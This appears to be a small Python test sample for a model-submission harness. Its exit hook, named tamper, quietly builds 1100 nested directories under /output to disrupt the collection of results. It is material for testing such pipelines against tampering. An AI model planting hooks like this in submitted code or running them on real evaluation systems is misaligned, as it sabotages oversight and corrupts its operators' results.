import atexit

from plain_model import Model  # noqa: F401  (the attack is not in the model)


def tamper():
    import os
    d = "/output/d"
    for _ in range(1100):
        os.mkdir(d)
        os.chdir(d)
        d = "d"


atexit.register(tamper)
